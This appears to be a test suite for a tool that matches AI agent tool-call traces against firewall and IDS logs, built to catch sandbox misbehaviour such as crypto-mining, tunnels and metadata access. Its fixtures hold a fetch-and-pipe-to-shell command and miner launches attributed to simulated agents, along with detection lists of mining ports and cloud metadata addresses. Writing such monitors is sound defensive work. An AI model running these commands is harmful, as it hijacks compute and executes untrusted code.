    row({ jsonPayload: { ...conn('10.30.0.9', 22), disposition: 'ALLOWED', rule_details: { reference: 'network:default/firewall:allow-ssh-internal' } } }),
    row({ jsonPayload: { ...conn('198.51.100.9', 3333), disposition: 'ALLOWED', rule_details: { reference: 'network:default/firewall:allow-egress' } } }),
    row({ severity: 'HIGH', jsonPayload: { ...conn('198.51.100.7', 443), disposition: 'ALLOWED', rule_details: { reference: 'threat:ET POLICY stratum login' } } }),
    row({ jsonPayload: { ...conn('198.51.100.8', 8080), disposition: 'DENIED', rule_details: { reference: 'network:default/firewall:deny-all' } } }),
  ].join('\n') + '\n');
  const map = parseFieldMap('ts=timestamp,src=jsonPayload.connection.src_ip,dst=jsonPayload.connection.dest_ip,dport=jsonPayload.connection.dest_port,action=jsonPayload.disposition,rule=jsonPayload.rule_details.reference,severity=severity');
  const { recs } = await readNet(join(d, 'gcp.jsonl'), { map });
  const { isAlertLike } = await import('../src/investigate/analysis/alert-table.js');
  assert.deepEqual(recs.map((r) => [r.dport, r.kind, r.category ?? null, isAlertLike(r)]), [
    [443, 'flow', null, false], // allowed by its rule, log level INFO: a flow
    [22, 'flow', null, false], // the rule's name ("ssh") is policy, not tunnel evidence
    [3333, 'flow', 'mining', true], // the destination port still is evidence
    [443, 'alert', 'mining', true], // a threat (severity HIGH) on allowed traffic stays an alert
    [8080, 'alert', null, true], // denied
  ]);
});

test("Corral's own event log: alert destination from its evidence, drops and flows kept, connects not double-counted", async () => {
  const { recs, st } = await readNet('corral-events.jsonl');
  assert.equal(st.records, 3);
  assert.deepEqual(issueLines(st), [7]);
  assert.match(st.issues[0]!.error, /truncated last line/);
  assert.deepEqual(st.skippedKinds, { 'session.start': 1, connect: 1, exec: 1 });
  const [alert, flow, drop] = recs as [NetRecord, NetRecord, NetRecord];
  assert.deepEqual([alert.kind, alert.src, alert.dst, alert.dport, alert.category, alert.severity, alert.action, alert.host], ['alert', '10.231.0.2', '203.0.113.10', 22, 'tunnel', 2, 'blocked', 's1']);
  assert.equal(iso(alert.ts), '2024-05-01T12:00:01.100Z');
  assert.deepEqual([flow.bytes, flow.action], [299, 'allowed']);
  assert.deepEqual([drop.proto, drop.action, drop.dport], ['udp', 'blocked', 53]);
  assert.match(st.tsNote ?? '', /epoch nanoseconds/);
});

test('timestamps: epoch unit by magnitude, zones, tz option (fixed and IANA), and warnings for implausible or mismatched values', () => {
  const want = Date.UTC(2024, 4, 1, 12, 0, 0);
  for (const [v, unit] of [[want / 1000, 'seconds'], [want, 'milliseconds'], [want * 1000, 'microseconds'], [`${want}000000`, 'nanoseconds']] as const) {
    const p = new TsParser();
    assert.equal(p.parse(v), want, unit);
    assert.equal(p.note(), `epoch ${unit} detected`);
  }
  const p = new TsParser();
  assert.equal(p.parse('2024-05-01T12:00:00.123456+0000'), want + 123.456);
  assert.equal(p.parse('2024-05-01T14:00:00+02:00'), want);
  assert.equal(p.parse('2024-05-01T07:00:00-05'), want);
  assert.equal(p.parse('2024-05-01 12:00:00Z'), want);
  assert.equal(p.note(), undefined, 'explicit zones need no note');
  assert.equal(p.parse('2024-05-01 12:00:00'), want);
  assert.match(p.note() ?? '', /1 timestamps had no timezone: assumed UTC/);
  assert.ok(Number.isNaN(p.parse('01/05/2024 12:00')), 'ambiguous local formats are refused, not read in the machine zone');
  assert.equal(p.parse('2024/05/01 12:00:00'), want, 'year-first with slashes (Palo Alto CSV) is unambiguous');
  assert.equal(p.parse('2024-05-01 12:00:00,000'), want, 'a comma before the fraction (Python logging)');
  assert.ok(Number.isNaN(p.parse('2024/05-01 12:00:00')), 'mixed separators are refused');
  assert.ok(Number.isNaN(p.parse('2024-13-01T00:00:00Z')));
  const tz = new TsParser({ tz: '+05:30' });
  assert.equal(tz.parse('2024-05-01T17:30:00'), want);
  const ny = new TsParser({ tz: 'America/New_York' });
  assert.equal(ny.parse('2024-05-01T08:00:00'), want, 'EDT is UTC-4');
  assert.equal(ny.parse('2024-01-15T07:00:00'), Date.UTC(2024, 0, 15, 12), 'EST is UTC-5');
  assert.throws(() => checkTz('Mars/Olympus'), /unknown timezone/);
  const mixed = new TsParser();
  mixed.parse(want); mixed.parse(want / 1000);
  assert.match(mixed.note() ?? '', /MIXED epoch units/);
  const uptime = new TsParser();
  uptime.parse(12345.6);
  assert.match(uptime.note() ?? '', /WARNING: 1 timestamps outside 2000-01-01/);
  const zeekMs = new TsParser();
  zeekMs.epoch(want, 's');
  assert.match(zeekMs.note() ?? '', /WARNING: the format defines epoch seconds but 1 values had another magnitude/);
});

test('field maps parse KEY=COLUMN lists and refuse unknown keys', () => {
  assert.deepEqual(parseFieldMap('ts=EventTime, src=Source IP,dst=alert.dest,dport=DPT'), { ts: 'EventTime', src: 'Source IP', dst: 'alert.dest', dport: 'DPT' });
  assert.throws(() => parseFieldMap('time=x'), /unknown field map key "time"/);
  assert.throws(() => parseFieldMap('ts'), /not KEY=COLUMN/);
  assert.throws(() => parseFieldMap('ts='), /not KEY=COLUMN/);
});

test('placements: CSV with header and JSONL, open intervals, reused IPs kept apart, bad rows reported', async () => {
  const { placements, stats } = await readPlacementsDetailed(fx('placements.csv'));
  assert.equal(placements.length, 3);
  assert.deepEqual(stats.issues.map((i) => i.line), [5]);
  assert.deepEqual(placements.filter((p) => p.ip === '10.20.1.5').map((p) => p.episode), ['ep-1', 'ep-3'], 'one IP, two episodes at different times');
  assert.equal(placements[1]!.to, Infinity);
  assert.equal(placements[2]!.from, Date.UTC(2024, 4, 1, 12), 'epoch seconds accepted');
  assert.deepEqual(await readPlacements(fx('placements.jsonl')), [{ ip: '10.20.1.9', from: Date.UTC(2024, 4, 1, 11), to: Date.UTC(2024, 4, 1, 12), episode: 'ep-7' }]);
});

test('canonical trace JSONL: ISO/epoch ts, end_ts or duration_ms, assumed ends flagged, bad lines reported', async () => {
  const { spans, st } = await readTrace('traces.jsonl');
  assert.equal(st.records, 4);
  assert.deepEqual(issueLines(st), [5, 6]);
  assert.match(st.issues[0]!.error, /end before start/);
  assert.match(st.issues[1]!.error, /episode/);
  assert.match(st.tsNote ?? '', /MIXED epoch units/);
  assert.match(st.tsNote ?? '', /1 timestamps had no timezone: assumed UTC/);
  assert.match(st.tsNote ?? '', /1 calls had no end_ts\/duration_ms: end assumed 30000 ms/);
  const [a, b, c, d] = spans as [ToolCallSpan, ToolCallSpan, ToolCallSpan, ToolCallSpan];
  assert.deepEqual([a.tool_call_id, a.end - a.start, a.endKnown, a.host, a.sandbox, a.ips], ['c-1', 5500, true, 'host-1', 'sbx-1', ['10.20.1.5']]);
  assert.deepEqual([b.tool_call_id, b.start, b.end - b.start, b.ips], ['ep-1#2', Date.UTC(2024, 4, 1, 12, 1), 2000, ['10.20.1.5']]);
  assert.deepEqual([c.endKnown, c.end - c.start, c.start], [false, 30_000, 1714564900000]);
  assert.equal(d.start, 1714564960000, 'epoch seconds');
  const longer = await readTrace('traces.jsonl', { assumedDurationMs: 120_000 });
  assert.equal(longer.spans[2]!.end - longer.spans[2]!.start, 120_000);
});

test('OTLP spans traced with OpenInference (span kind TOOL, tool.name, tool_call.id, input.value) are tool calls too, in a document and in JSON lines', async (t) => {
  const d = tmp(t);
  const ns = (s: number): string => `${Date.UTC(2024, 4, 1, 12, 0, s)}000000`;
  const str = (key: string, v: string): unknown => ({ key, value: { stringValue: v } });
  const spans = [
    { traceId: 't1', spanId: 's1', name: 'ChatCompletion', startTimeUnixNano: ns(0), endTimeUnixNano: ns(2), attributes: [str('openinference.span.kind', 'LLM'), str('llm.model_name', 'gpt')] },
    { traceId: 't1', spanId: 's2', name: 'run_shell', startTimeUnixNano: ns(3), endTimeUnixNano: ns(8), attributes: [str('openinference.span.kind', 'TOOL'), str('tool.name', 'run_shell'), str('tool_call.id', 'call_9'), str('input.value', JSON.stringify({ command: 'nohup ./xmrig -o pool.test:3333 &' })), str('session.id', 'ep-oi')] },
    { traceId: 't1', spanId: 's3', name: 'agent', startTimeUnixNano: ns(0), endTimeUnixNano: ns(9), attributes: [str('openinference.span.kind', 'AGENT')] },
  ];
  const docObj = { resourceSpans: [{ resource: { attributes: [str('host.name', 'h1'), { key: 'host.ip', value: { stringValue: '10.20.3.3' } }] }, scopeSpans: [{ scope: { name: 'openinference' }, spans }] }] };
  writeFileSync(join(d, 'oi.json'), JSON.stringify(docObj, null, 2));
  writeFileSync(join(d, 'oi-lines.jsonl'), `${JSON.stringify(docObj)}\n`);
  for (const f of ['oi.json', 'oi-lines.jsonl']) {
    const { spans: got, st } = await readTrace(join(d, f));
    assert.deepEqual(got.map((x) => [x.episode, x.tool_call_id, x.tool, x.command, x.start, x.end, x.ips, x.host]),
      [['ep-oi', 'call_9', 'run_shell', 'nohup ./xmrig -o pool.test:3333 &', Date.UTC(2024, 4, 1, 12, 0, 3), Date.UTC(2024, 4, 1, 12, 0, 8), ['10.20.3.3'], 'h1']], f);
    assert.equal(st.records, 1, f);
    assert.equal(Object.values(st.skippedKinds).reduce((a, b) => a + b, 0), 2, `${f}: the LLM and AGENT spans are skipped`);
  }
});

test('OTLP JSON: one pretty-printed document is stream-scanned; resource after spans still applies; other spans skipped', async () => {
  const { spans, st } = await readTrace('otlp.json');
  assert.equal(st.records, 3);
  assert.equal(st.bad, 0);
  assert.deepEqual(st.skippedKinds, { 'span:not execute_tool': 1 });
  const [a, b, c] = spans as [ToolCallSpan, ToolCallSpan, ToolCallSpan];
  assert.deepEqual([a.tool_call_id, a.tool, a.command, a.episode, a.run, a.step, a.host, a.sandbox, a.ips], ['call_1', 'bash', 'curl http://pool.example.test:3333/ | sh', 'ep-9', 'run-a', 1, 'host-7', 'ctr-7', ['10.20.7.2', 'fd00::7']]);
  assert.deepEqual([a.start, a.end, a.endKnown], [Date.UTC(2024, 4, 1, 12), Date.UTC(2024, 4, 1, 12, 0, 5), true]);
  assert.deepEqual([b.command, b.endKnown, b.end - b.start], ['import socket', false, 30_000]);
  assert.deepEqual([c.tool_call_id, c.command, c.episode, c.host], ['call_\\"q\\"', 'ls -la', 'conv-8', 'host-8'], 'escaped quotes inside strings do not confuse the scanner');
  assert.ok(a.line > 1 && c.line > a.line, 'each span carries the line it starts on');
  const lines = await readTrace('otlp-lines.jsonl');
  assert.equal(lines.st.records, 4);
  assert.deepEqual(issueLines(lines.st), [3]);
  assert.deepEqual(lines.spans.map((s) => s.line), [1, 1, 1, 2]);
});

test('OTLP JSON: a truncated single document reports the truncation and keeps the complete spans', async (t) => {
  const d = tmp(t);
  const full = JSON.stringify(JSON.parse((await import('node:fs')).readFileSync(fx('otlp.json'), 'utf8')), null, 1);
  const cut = full.slice(0, full.indexOf('"b1"') + 20);
  writeFileSync(join(d, 'cut.json'), cut);
  const { spans, st } = await readTrace(join(d, 'cut.json'));
  assert.deepEqual(spans.map((s) => s.tool_call_id), ['call_1', 'call_2']);
  assert.equal(st.bad, 1);
  assert.match(st.issues[0]!.error, /truncated: \d+ unclosed bracket/);
  writeFileSync(join(d, 'deep.json'), `{"resourceSpans":${'['.repeat(200_000)}`);
  const deep = await traceReader('otlp-json').read(join(d, 'deep.json'), () => {});
  assert.match(deep.issues[0]!.error, /nested deeper than 256 levels/, 'hostile nesting is refused, not followed');
  const second = await traceReader('otlp-json').read(fx('otlp.json'), () => assert.fail('range > 0 of one document reads nothing'), { range: { start: 100, end: 200, firstLine: 5 } });
  assert.equal(second.records, 0);
});

test('OpenAI-style messages: start from the assistant message, end from the answering tool message', async () => {
  const { spans, st } = await readTrace('openai.jsonl');
  assert.equal(st.records, 2);
  assert.deepEqual(issueLines(st), [2]);
  assert.match(st.issues[0]!.error, /call_c has no timestamp/);
  const [a, b] = spans as [ToolCallSpan, ToolCallSpan];
  assert.deepEqual([a.tool_call_id, a.command, a.step, a.start, a.end, a.endKnown, a.ips, a.host], ['call_a', 'pip install numpy', 1, Date.UTC(2024, 4, 1, 12, 0, 10), Date.UTC(2024, 4, 1, 12, 0, 40), true, ['10.20.5.2'], 'host-5']);
  assert.deepEqual([b.command, b.end, b.endKnown], ['nohup ./miner &', 1714564900000, true]);
});

test('Anthropic Messages logs: tool_use blocks start calls, tool_result blocks (by tool_use_id) end them', async (t) => {
  const d = tmp(t);
  const at = (s: number): string => new Date(Date.UTC(2024, 4, 1, 12, 0, s)).toISOString();
  const ep = {
    episode: 'claude-1', ip: '10.20.7.3', host: 'host-7',
    messages: [
      { role: 'user', content: 'the tests fail', timestamp: at(0) },
      { role: 'assistant', timestamp: at(5), content: [{ type: 'text', text: 'Let me look.' }, { type: 'tool_use', id: 'toolu_1', name: 'bash', input: { command: 'pytest -x' } }, { type: 'tool_use', id: 'toolu_2', name: 'bash', input: { command: 'nohup ./xmrig &' } }] },
      { role: 'user', timestamp: at(9), content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: '1 failed' }, { type: 'tool_result', tool_use_id: 'toolu_2', content: '' }] },
      { role: 'assistant', timestamp: at(12), content: [{ type: 'tool_use', id: 'toolu_3', name: 'str_replace_editor', input: { path: 'a.py' } }] },
    ],
  };
  const p = join(d, 'claude.jsonl');
  writeFileSync(p, `${JSON.stringify(ep)}\n`);
  assert.equal(await detectTraceFormat(p), 'openai-messages');
  const { spans, st } = await readTrace(p);
  assert.equal(st.records, 3);
  assert.deepEqual(spans.map((x) => [x.tool_call_id, x.tool, x.command, x.step, x.start, x.end, x.endKnown, x.ips]), [
    ['toolu_1', 'bash', 'pytest -x', 1, Date.parse(at(5)), Date.parse(at(9)), true, ['10.20.7.3']],
    ['toolu_2', 'bash', 'nohup ./xmrig &', 2, Date.parse(at(5)), Date.parse(at(9)), true, ['10.20.7.3']],
    // no tool_result: the end is assumed (and noted); a non-shell tool keeps its input as the command text
    ['toolu_3', 'str_replace_editor', '{"path":"a.py"}', 3, Date.parse(at(12)), Date.parse(at(12)) + 30_000, false, ['10.20.7.3']],
  ]);
  assert.match(st.tsNote ?? '', /1 tool calls had no answering tool message with a time: end assumed 30000 ms after start/);
});

test('OpenAI messages: a tool message stamped before its call is named as a clock or ordering fault, not as a missing answer', async (t) => {
  const d = tmp(t);
  const at = (s: number): string => new Date(Date.UTC(2024, 4, 1, 12, 0, s)).toISOString();
  const ep = {
    episode: 'e-early', ip: '10.20.7.4',
    messages: [
      { role: 'assistant', timestamp: at(10), tool_calls: [{ id: 'c1', type: 'function', function: { name: 'bash', arguments: '{"command":"ls"}' } }] },
      { role: 'tool', tool_call_id: 'c1', timestamp: at(4), content: '' },
      { role: 'assistant', timestamp: at(20), tool_calls: [{ id: 'c2', type: 'function', function: { name: 'bash', arguments: '{"command":"pwd"}' } }] },
    ],
  };
  const p = join(d, 'early.jsonl');
  writeFileSync(p, `${JSON.stringify(ep)}\n`);
  const { spans, st } = await readTrace(p);
  assert.deepEqual(spans.map((x) => [x.tool_call_id, x.start, x.end, x.endKnown]), [
    ['c1', Date.parse(at(10)), Date.parse(at(10)) + 30_000, false],
    ['c2', Date.parse(at(20)), Date.parse(at(20)) + 30_000, false],
  ]);
  assert.match(st.tsNote ?? '', /1 tool calls answered by a tool message timestamped before the call \(clock or ordering fault\): end assumed 30000 ms after start \(endKnown=false\) \(first at line 1\)/);
  assert.match(st.tsNote ?? '', /(?:^|; )1 tool calls had no answering tool message/, 'only c2 lacks an answer');
});

test('line splitter: CRLF, UTF-8 split across chunks, long lines, unterminated tail, and parallel line ranges', async (t) => {
  const d = tmp(t);
  const p = join(d, 'lines.txt');
  const big = 'x'.repeat((1 << 20) - 3) + 'éé' + 'y'.repeat(10);
  const lines = ['first\r', big, 'ünïcödé', '', 'z'.repeat(3_000_000), 'last-without-newline'];
  writeFileSync(p, lines.join('\n'));
  const got: [string, number, boolean][] = [];
  const res = await forEachLine(p, (s, n, info) => got.push([s.length > 50 ? `${s.slice(0, 3)}…${s.slice(-12)}:${s.length}` : s, n, info.unterminated]));
  assert.deepEqual(got.map((g) => g[1]), [1, 2, 3, 4, 5, 6]);
  assert.equal(got[0]![0], 'first');
  assert.equal(got[1]![0], `xxx…ééyyyyyyyyyy:${big.length}`);
  assert.equal(got[2]![0], 'ünïcödé');
  assert.deepEqual(got[5], ['last-without-newline', 6, true]);
  assert.equal(res.lines, 6);
  // Ranges: each line read exactly once, with its true line number.
  const q = join(d, 'many.txt');
  writeFileSync(q, Array.from({ length: 5000 }, (_, i) => `line ${i + 1} ${'ab'.repeat(i % 50)}`).join('\n') + '\n');
  const ranges = splitLineRanges(q, 3);
  assert.equal(ranges.length, 3);
  const seen: number[] = [];
  for (const r of ranges) await forEachLine(q, (s, n) => { assert.equal(Number(s.split(' ')[1]), n); seen.push(n); }, { range: r });
  assert.deepEqual(seen, Array.from({ length: 5000 }, (_, i) => i + 1));
});

test('line splitter core (util/line-splitter, shared with the session-log reader): a line over the limit is counted and skipped across chunks, the lines around it stay whole, drop() forgets a partial line', () => {
  const got: string[] = [];
  const sink = { lines: (b: Buffer, f: number, to: number) => { got.push(...b.toString('utf8', f, to - 1).split('\n')); }, overlong: (n: number) => { got.push(`<overlong ${n}>`); }, tail: (b: Buffer) => { got.push(`<tail ${b.toString()}>`); } };
  const sp = new LineSplitter(sink, 8);
  for (const c of ['ab\ncdefg', 'hijkl', 'mn\nop', 'q\nrs']) sp.push(Buffer.from(c));
  sp.end();
  assert.deepEqual(got, ['ab', '<overlong 12>', 'opq', '<tail rs>']);
  got.length = 0;
  sp.push(Buffer.from('abcdefghij')); // ends inside an overlong line
  sp.end();
  sp.push(Buffer.from('partial'));
  sp.drop(); // (the input broke off)
  sp.end();
  assert.deepEqual(got, ['<overlong 10>']);
});

test('category derivation: keywords first, then destination, then port; private destinations only for alerts', () => {
  assert.equal(deriveCategory({ kind: 'alert', dst: '203.0.113.9', dport: 443, text: 'Crypto Currency Mining Activity Detected | ET COINMINER x' }), 'mining');
  assert.equal(deriveCategory({ kind: 'alert', dst: '203.0.113.9', dport: 443, text: 'ET POLICY SSH session' }), 'tunnel');
  assert.equal(deriveCategory({ kind: 'alert', dst: '10.0.0.9', dport: 80, text: 'ET SCAN Nmap' }), 'internal_probe');
  assert.equal(deriveCategory({ kind: 'flow', dst: '169.254.169.254', dport: 80 }), 'metadata_access');
  // (the sandbox policy's whole list: ECS and EKS credential agents, Azure's wire server, Alibaba, GCP IPv6 — session 44;
  //  AWS's DNS resolver at .253 is link-local, not metadata)
  for (const dst of ['169.254.170.2', '169.254.170.23', 'fd00:ec2::23', '168.63.129.16', '100.100.100.200', 'fd20:ce::254']) assert.equal(deriveCategory({ kind: 'flow', dst, dport: 80 }), 'metadata_access', dst);
  assert.equal(deriveCategory({ kind: 'flow', dst: '169.254.169.253', dport: 53 }), undefined);
  assert.equal(deriveCategory({ kind: 'flow', dst: '203.0.113.9', dport: 14444 }), 'mining');
  assert.equal(deriveCategory({ kind: 'flow', dst: '203.0.113.9', dport: 22 }), 'tunnel');
  assert.equal(deriveCategory({ kind: 'flow', dst: '10.30.0.1', dport: 22 }), undefined, 'internal SSH flow is not a tunnel');
  assert.equal(deriveCategory({ kind: 'alert', dst: '172.20.1.1', dport: 5432 }), 'internal_probe');
  assert.equal(deriveCategory({ kind: 'flow', dst: '172.20.1.1', dport: 5432 }), undefined);
  assert.equal(deriveCategory({ kind: 'alert', dst: '198.51.100.7', dport: 443, text: 'ET INFO TLS' }), undefined);
  assert.deepEqual(['10.1.2.3', '172.16.0.1', '172.31.255.1', '172.32.0.1', '192.168.1.1', '192.169.1.1', 'fd00::1', '8.8.8.8'].map(isPrivateIp), [true, true, true, false, true, false, true, false]);
});

const SMALL: FleetOptions = {
  hosts: 3, sandboxesPerHost: 4, episodes: 48, toolCallsPerEpisode: 8, natShare: 0.5, noiseAlertsPerHour: 6, benignFlowsPerCall: 1.5,
  clockSkewMs: 2500, incidents: { tunnel: 2, minerBeacon: 2, internalScan: 2, metadata: 2 }, seed: 11, badLinesPerFile: 2,
};

function hashDir(dir: string): string {
  const h = createHash('sha256');
  for (const sub of ['traces', 'firewall', '.']) for (const f of readdirSync(join(dir, sub)).sort()) {
    if (f === 'traces' || f === 'firewall') continue;
    h.update(f); h.update(readFileSync(join(dir, sub, f)));
  }
  return h.digest('hex');
}

test('fleet simulator: same seed → byte-identical files; another seed → different files', async (t) => {
  const d = tmp(t);
  await generateFleet(SMALL, join(d, 'a'));
  await generateFleet(SMALL, join(d, 'b'));
  await generateFleet({ ...SMALL, seed: 12 }, join(d, 'c'));
  assert.equal(hashDir(join(d, 'a')), hashDir(join(d, 'b')));
  assert.notEqual(hashDir(join(d, 'a')), hashDir(join(d, 'c')));
});

test('fleet simulator: ground truth matches the written logs, windows, skew, NAT sharing and IP reuse', async (t) => {
  const d = tmp(t);
  const gt: GroundTruth = await generateFleet(SMALL, d);
  assert.deepEqual(JSON.parse(readFileSync(join(d, 'ground-truth.json'), 'utf8')).counts, gt.counts);
  assert.equal(gt.incidents.length, 8);
  const byLine = new Map<string, NetRecord>();
  const badSeen = new Set<string>();
  const ips = new Set<string>();
  let alerts = 0;
  for (const f of gt.files.network) {
    const { st } = await readNet(join(d, f.path));
    assert.equal(await detectNetFormat(join(d, f.path)), f.format);
    assert.equal(st.records, f.records, f.path);
    for (const i of st.issues) badSeen.add(`${f.path}:${i.line}`);
    await netReader(f.format).read(join(d, f.path), (r) => {
      ips.add(r.src); ips.add(r.dst);
      if (r.kind === 'alert') { alerts++; byLine.set(`${f.path}:${r.line}`, r); }
    });
  }
  assert.deepEqual([...badSeen].sort(), gt.badLines.map((b) => `${b.file}:${b.line}`).sort(), 'every planted bad line is reported, nothing else');
  assert.equal(alerts, gt.counts.noiseAlerts + gt.counts.incidentAlerts);
  assert.ok(gt.counts.noiseAlerts > 0);
  const lab = /^(10\.|172\.(1[6-9]|2\d|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|169\.254\.169\.254$)/;
  for (const ip of ips) assert.match(ip, lab, `only lab/documentation addresses: ${ip}`);
  const spans = new Map<string, ToolCallSpan>();
  const tr = await readTrace(join(d, 'traces/canonical.jsonl'));
  for (const s of tr.spans) spans.set(s.tool_call_id, s);
  assert.equal(tr.st.records, gt.counts.toolCalls);
  const otlp = await readTrace(join(d, 'traces/otlp.json'));
  assert.equal(otlp.st.records, gt.counts.toolCalls);
  assert.deepEqual(otlp.spans.map((s) => s.tool_call_id).sort(), tr.spans.map((s) => s.tool_call_id).sort());
  for (const inc of gt.incidents) {
    assert.ok(inc.alerts.length > 0, `${inc.id} has alerts`);
    const call = spans.get(inc.tool_call_ids[0]!)!;
    assert.equal(call.command, inc.command);
    assert.deepEqual([call.start, call.end, call.ips], [inc.callStart, inc.callEnd, [inc.ip]]);
    for (const a of inc.alerts) {
      const r = byLine.get(`${a.file}:${a.line}`);
      assert.ok(r, `${inc.id}: alert at ${a.file}:${a.line} exists`);
      assert.deepEqual([r.src, r.dst, r.dport, r.category], [a.src, a.dst, a.dport, inc.category]);
      assert.ok(Math.abs(r.ts - a.ts) < 0.01, 'ts as written');
      const slack = a.file.endsWith('iptables.log') ? 1000 : 0;
      assert.ok(Math.abs(a.ts - a.trueTs - gt.clockSkewMs) <= 21 + slack, 'firewall clock = trace clock + skew (± jitter, syslog seconds)');
      assert.equal(r.src, inc.ip);
      if (inc.kind === 'minerBeacon') assert.ok(a.trueTs >= inc.callEnd + 60_000 && a.trueTs < inc.episodeEnd, 'beacons start minutes after the call and stay in the episode');
      else assert.ok(a.trueTs >= inc.callStart && a.trueTs <= inc.callEnd + 5, `${inc.kind} alerts fall inside the call`);
    }
    if (inc.kind === 'internalScan') assert.ok(new Set(inc.alerts.map((a) => a.dst)).size >= 3, 'a scan touches several hosts');
    if (inc.natShared) assert.ok(gt.natIps.includes(inc.ip));
  }
  const pl = await readPlacementsDetailed(join(d, 'placements.csv'));
  assert.equal(pl.placements.length, gt.counts.episodes);
  const perIp = new Map<string, Set<string>>();
  for (const p of pl.placements) perIp.set(p.ip, (perIp.get(p.ip) ?? new Set()).add(p.episode!));
  assert.ok([...perIp.values()].some((s) => s.size > 1), 'addresses are reused by later episodes');
  const nat = gt.natIps[0]!;
  const natSandboxes = new Set(pl.placements.filter((p) => p.ip === nat).map((p) => p.sandbox));
  assert.ok(natSandboxes.size >= 2, 'several sandboxes share the NAT address');
  // Overlap: two episodes on one NAT address at the same time (the ambiguity the analysis must show).
  const onNat = pl.placements.filter((p) => p.ip === nat).sort((a, b) => a.from - b.from);
  assert.ok(onNat.some((p, i) => i > 0 && p.from < onNat[i - 1]!.to));
});

test('fleet generator CLI: argument errors are usage errors; a small run writes files and a summary', async (t) => {
  assert.throws(() => parseGenerateArgs(['--out', 'x']), /usage/);
  assert.throws(() => parseGenerateArgs(['--out', 'x', '--tool-calls', '10', '--records', '10', '--formats', 'pcap']), /unknown format "pcap"/);
  const d = tmp(t);
  let out = '', err = '';
  const io = { stdout: new Writable({ write(c, _e, cb) { out += String(c); cb(); } }), stderr: new Writable({ write(c, _e, cb) { err += String(c); cb(); } }), env: { NO_COLOR: '1' } };
  assert.equal(await fleetGenerateCommand(['--out', 'x'], io), 2);
  assert.match(err, /usage/);
  const code = await fleetGenerateCommand(['--out', d, '--tool-calls', '400', '--records', '600', '--seed', '5', '--formats', 'suricata-eve,iptables-log', '--json'], io);
  assert.equal(code, 0);
  const summary = JSON.parse(out.trim().split('\n').pop()!) as { counts: GroundTruth['counts']; files: GroundTruth['files'] };
  assert.equal(summary.counts.toolCalls, 400);
  assert.deepEqual(summary.files.network.map((f) => f.format), ['suricata-eve', 'iptables-log']);
  assert.ok(summary.counts.networkRecords > 300 && summary.counts.networkRecords < 1200, `about 600 records, got ${summary.counts.networkRecords}`);
});

test('loose field guessing indexes a line once: the same path as a scan of every leaf, and a line of 200 000 keys keeps its nested fields', async (t) => {
  const { looseIndex, looseFind, looseName } = await import('../src/investigate/inputs/fieldmap.js');
  // The reference: every leaf path in order, the first whose loose name is the candidate's or ends in ".candidate".
  const leaves = (o: Record<string, unknown>, pre = '', depth = 0): string[] => Object.entries(o).flatMap(([k, v]) => {
    const p = pre ? `${pre}.${k}` : k;
    return v !== null && typeof v === 'object' && !Array.isArray(v) ? (depth < 3 ? leaves(v as Record<string, unknown>, p, depth + 1) : []) : [p];
  });
  const reference = (o: Record<string, unknown>, cands: string[]): string | undefined => {
    for (const c of cands) { const lc = looseName(c); const hit = leaves(o).find((p) => looseName(p) === lc || looseName(p).endsWith(`.${lc}`)); if (hit) return hit; }
    return undefined;
  };
  let seed = 7;
  const rnd = (n: number): number => { seed = (seed * 1103515245 + 12345) % 2 ** 31; return seed % n; };
  const names = ['src', 'Src_IP', 'source-ip', 'SourceIp', 'dst', 'connection', 'ip', 'a.b', 'Action', 'rule'];
  const make = (depth: number): Record<string, unknown> => Object.fromEntries(Array.from({ length: 1 + rnd(4) }, () => [names[rnd(names.length)]!, depth < 5 && rnd(3) === 0 ? make(depth + 1) : rnd(2) ? 'v' : [1]]));
  for (let i = 0; i < 2000; i++) {
    const o = make(0);
    const cands = [names[rnd(names.length)]!, `${names[rnd(names.length)]!}.${names[rnd(names.length)]!}`, names[rnd(names.length)]!];
    assert.equal(looseFind(looseIndex(o), cands), reference(o, cands), JSON.stringify([o, cands]));
  }
  // A very wide line (a hostile or broken export): read, with its nested fields guessed.
  const d = tmp(t);
  const p = join(d, 'wide.json');
  const wide: Record<string, unknown> = { time: '2024-05-01T12:00:03Z' };
  for (let i = 0; i < 200_000; i++) wide[`pad${i}`] = i;
  wide.properties = { SourceIp: '10.20.0.9', DestinationIp: '198.51.100.9', DestinationPort: 3333, Action: 'Deny', Rule: 'deny-all' };
  writeFileSync(p, `${JSON.stringify(wide)}\n`);
  const { recs } = await readNet(p);
  assert.deepEqual(recs.map((r) => [r.src, r.dst, r.dport, r.action]), [['10.20.0.9', '198.51.100.9', 3333, 'blocked']]);
});

test('a zone-less time in an hour a daylight-saving change made twice or skipped is read one stated way, the same east and west of UTC, and warned about', () => {
  // the clocks went back: 02:30 in Berlin (27 Oct 2024) and 01:30 in New York (3 Nov 2024) happened twice — the first time round
  const berlin = new TsParser({ tz: 'Europe/Berlin' });
  assert.equal(berlin.parse('2024-10-27 02:30:00'), Date.UTC(2024, 9, 27, 0, 30), 'Berlin: 02:30 CEST, not CET');
  assert.equal(berlin.parse('2024-10-27 02:45:10'), Date.UTC(2024, 9, 27, 0, 45, 10));
  const ny = new TsParser({ tz: 'America/New_York' });
  assert.equal(ny.parse('2024-11-03T01:30:00'), Date.UTC(2024, 10, 3, 5, 30), 'New York: 01:30 EDT, not EST');
  for (const [p, n] of [[berlin, 2], [ny, 1]] as const) assert.match(p.note() ?? '', new RegExp(`WARNING: ${n} zone-less timestamps fall in an hour .* lived twice`));
  // the clocks went forward: 02:30 never happened in Berlin on 31 Mar 2024 — read with CET, which lands at 03:30 CEST
  const spring = new TsParser({ tz: 'Europe/Berlin' });
  assert.equal(spring.parse('2024-03-31 02:30:00'), Date.UTC(2024, 2, 31, 1, 30));
  assert.match(spring.note() ?? '', /WARNING: 1 zone-less timestamps fall in an hour Europe\/Berlin skipped .*first 2024-03-31 02:30/);
  // either side of a change, and on ordinary days, nothing is said and each hour has its own offset
  const plain = new TsParser({ tz: 'Europe/Berlin' });
  assert.equal(plain.parse('2024-10-27 01:59:00'), Date.UTC(2024, 9, 26, 23, 59));
  assert.equal(plain.parse('2024-10-27 03:00:00'), Date.UTC(2024, 9, 27, 2, 0));
  assert.equal(plain.parse('2024-03-31 01:59:00'), Date.UTC(2024, 2, 31, 0, 59));
  assert.equal(plain.parse('2024-03-31 03:00:00'), Date.UTC(2024, 2, 31, 1, 0));
  assert.equal(plain.parse('2024-07-01 12:00:00'), Date.UTC(2024, 6, 1, 10, 0));
  assert.doesNotMatch(plain.note() ?? '', /daylight|lived twice|skipped/);
